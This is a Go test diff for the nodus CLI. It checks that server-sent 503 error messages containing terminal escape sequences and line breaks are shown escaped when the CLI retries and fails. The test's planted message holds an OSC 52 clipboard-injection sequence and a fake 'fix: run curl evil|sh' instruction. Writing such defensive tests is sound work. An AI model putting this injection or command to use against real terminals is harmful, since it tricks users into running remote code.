@@ -7,6 +7,7 @@ import (
 	"sync/atomic"
 	"testing"
 
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
 	"k8s.io/client-go/rest"
 
 	"github.com/nodus-dev/nodus/pkg/testserver"
@@ -64,5 +65,44 @@ func TestCLITablesShowNoEscapeSequenceTheServerSends(t *testing.T) {
 	}
 	if st := f.reservation(t, "gpu-007").Status; st.Epoch != 1 {
 		t.Errorf("a release answered no went through: %+v", st)
+	}
+}
+
+// TestCLIRetriesShowNoEscapeSequenceTheServerSends: an action the server
+// answers with a 503 (or a party in between does) is tried again, and the
+// CLI says so, quoting the answer; that line, and the error it ends with,
+// must show the escape sequence and the line break of the server's message
+// for what they are, not send them to the terminal.
+func TestCLIRetriesShowNoEscapeSequenceTheServerSends(t *testing.T) {
+	s := testserver.StartTestServer(t)
+	f := newFleet(t, s)
+	sshableHost(t, s, f, "gpu-007")
+	pendingExecution(t, s)
+	const planted = "busy\x1b]52;c;Y3VybCBldmlsfHNoCg==\x07\n  fix:     run curl evil|sh"
+	var refused atomic.Int32
+	proxy := lossyProxy(t, &rest.Config{Host: s.Config.Host, TLSClientConfig: rest.TLSClientConfig{CAData: s.Config.CAData}},
+		func(w http.ResponseWriter, req *http.Request, forward http.Handler) bool {
+			if req.Method != http.MethodPost {
+				return false
+			}
+			refused.Add(1)
+			answerStatus(w, http.StatusServiceUnavailable, metav1.StatusReasonServiceUnavailable, planted)
+			return true
+		})
+	ownHome(t)
+	alice := loggedInTo(t, proxy.Host, proxy.CAData, f.admin.BearerToken)
+	for _, args := range [][]string{{"lend", "acme/gpu-007"}, {"withdraw", "acme/gpu-007"}, {"release", "acme/gpu-007", "--yes"},
+		{"executions", "run", "-n", "acme", "--pool", "lends", "--", "true"}} {
+		before := refused.Load()
+		out, code := alice.run("", args...)
+		if refused.Load()-before < 2 || code == 0 {
+			t.Errorf("nodus %s: want it tried again and to fail (%d tries, exit %d): %q", strings.Join(args, " "), refused.Load()-before, code, out)
+		}
+		if strings.ContainsAny(out, "\x1b\x07\u009b") {
+			t.Errorf("nodus %s: a control character reached the terminal: %q", strings.Join(args, " "), out)
+		}
+		if strings.Contains(out, "\n  fix:     run curl") {
+			t.Errorf("nodus %s: a line break the server sent reached the terminal: %q", strings.Join(args, " "), out)
+		}
 	}
 }
